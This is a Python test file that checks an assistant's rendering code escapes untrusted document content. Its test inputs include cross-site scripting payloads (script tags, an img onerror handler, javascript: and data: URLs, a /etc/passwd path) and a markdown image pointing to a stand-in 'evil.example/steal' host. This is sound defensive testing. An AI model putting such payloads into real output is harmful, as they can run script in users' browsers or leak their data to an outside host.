from assistant.rendering import answer_text, escape_text, safe_url, sources_markdown
from assistant.schema import Source


def _source(**kw) -> Source:
    base = dict(n=1, id="a", text="t", score=0.9, title="Title", section="Sec", source="corpus/x.md", lang="en", url="https://example.org/")
    base.update(kw)
    return Source(**base)


def test_html_from_documents_is_escaped():
    out = escape_text('<script>alert(1)</script><img src=x onerror="alert(2)">')
    assert "<script" not in out and "<img" not in out
    assert "&lt;script&gt;" in out


def test_markdown_links_and_images_from_documents_are_inert():
    out = escape_text("![x](https://evil.example/steal?c=1) [click](javascript:alert(1))")
    assert "](" not in out.replace("\\](", "")


def test_only_http_links_survive():
    assert safe_url("https://scikit-learn.org/stable/") == "https://scikit-learn.org/stable/"
    assert safe_url("javascript:alert(1)") is None
    assert safe_url("data:text/html,<b>") is None
    assert safe_url("/etc/passwd") is None


def test_sources_block_escapes_titles_and_numbers_sources():
    block = sources_markdown([_source(title="<b onmouseover=x>T</b>", url="javascript:alert(1)")], "en")
    assert "<b" not in block and "javascript:" not in block
    assert block.splitlines()[2].startswith("1. ")


def test_citations_stay_readable():
    assert "**[2]**" in answer_text("- A fact. [2]")
